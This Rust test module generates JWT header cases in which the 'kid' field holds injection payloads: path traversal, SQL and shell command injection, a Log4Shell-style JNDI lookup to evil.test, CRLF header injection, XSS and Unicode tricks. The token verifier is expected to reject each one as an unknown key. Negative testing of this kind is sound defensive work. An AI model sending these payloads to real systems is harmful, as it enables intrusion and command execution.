//! Key ids: opaque, and only compared (RFC 8725 §3.10).

use super::super::{
    encode::{header, of_header, with, without},
    row::Row,
};
use ergo_protocol::Code::KeyUnknown;
use serde_json::json;

pub fn rows() -> Vec<Row> {
    let mut rows = Vec::new();
    for kid in [
        json!("../../../../dev/null"),
        json!("..\\..\\ed"),
        json!("./ed"),
        json!("/proc/sys/kernel/randomize_va_space"),
        json!("x' UNION SELECT 'ed' --"),
        json!("ed' OR '1'='1"),
        json!("ed; sleep 10"),
        json!("ed|whoami"),
        json!("$(touch x)"),
        json!("${jndi:ldap://evil.test/a}"),
        json!("https://evil.test/jwks.json"),
        json!("*"),
        json!(".*"),
        json!("(&(kid=*))"),
        json!("ed\u{0}"),
        json!("\u{0}ed"),
        json!("ed\r\nX-Header: y"),
        json!("ed\n"),
        json!(" ed"),
        json!("ed "),
        json!("ED"),
        json!("Ed"),
        json!("e"),
        json!("edd"),
        json!("e%64"),
        json!("\u{ff45}\u{ff44}"),
        json!("ed\u{200B}"),
        json!("\u{202E}de"),
        json!("\u{FEFF}ed"),
        json!("ed\u{301}"),
        json!("<script>alert(1)</script>"),
        json!("__proto__"),
        json!("constructor"),
        json!("gone"),
        json!("k".repeat(128)),
        json!("k".repeat(129)),
        json!("é".repeat(65)),
        json!("k".repeat(8000)),
        json!(""),
        json!(null),
        json!(true),
        json!(0),
        json!(1.5),
        json!(["ed"]),
        json!({"kid": "ed"}),
    ] {
        let text = kid.to_string();
        let name =
            if text.len() > 60 { format!("kid of {} bytes", text.len()) } else { format!("kid is {text}") };
        rows.push(Row::refused(name, of_header(with(header("ed"), "kid", kid).to_string()), KeyUnknown));
    }
    rows.push(Row::refused("no kid", of_header(without(header("ed"), "kid").to_string()), KeyUnknown));
    rows
}
